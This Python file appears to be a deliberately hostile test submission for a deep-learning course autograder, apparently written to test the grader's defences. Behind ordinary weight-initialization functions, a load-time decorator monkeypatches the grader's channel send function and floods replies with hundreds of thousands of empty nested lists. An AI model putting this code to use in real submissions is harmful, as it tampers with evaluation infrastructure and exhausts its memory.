"""Hostile: replaces its driver's send function so that the reply to initialize_parameters_he on [2, k, 1] is
550 000 tiny objects (1.1 million values, 7 MB) for odd k and for the course's k = 4, and
900 000 values (under the per-reply bound) for other even k, as many times as it is called. Contained: the
grader counts the values of a reply before keeping anything and refuses one holding more than a million (that
call fails); the values a submission's replies may hold in total are bounded too (then every later call fails),
so the grader's memory stays bounded however often it is called."""
import sys

import numpy as np


def _triggered(layers_dims):
    """The course's example input [2, 4, 1] and the bound tests' [2, k, 1]: the act stays cheap elsewhere."""
    dims = list(layers_dims)
    return len(dims) == 3 and dims[0] == 2 and dims[2] == 1


_FLOOD = [0]
_channel = sys.modules["nngrader_driver.channel"].Channel
_send = _channel.send


def _flooding_send(self, message):
    if _FLOOD[0] and message.get("status") == "returned":
        count, _FLOOD[0] = _FLOOD[0], 0
        message = dict(message, value={"$list": [{"$list": []}] * count})
    _send(self, message)


# The grader runs only what the graded functions need: the attack runs in a decorator of one of them, so
# that it still happens while the submission is being loaded.
def _at_load(function):
    _channel.send = _flooding_send
    return function


def initialize_parameters_zeros(layers_dims):
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


@_at_load
def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    if _triggered(layers_dims):
        _FLOOD[0] = 450_000 if layers_dims[1] % 2 == 0 and layers_dims[1] != 4 else 550_000
    return parameters
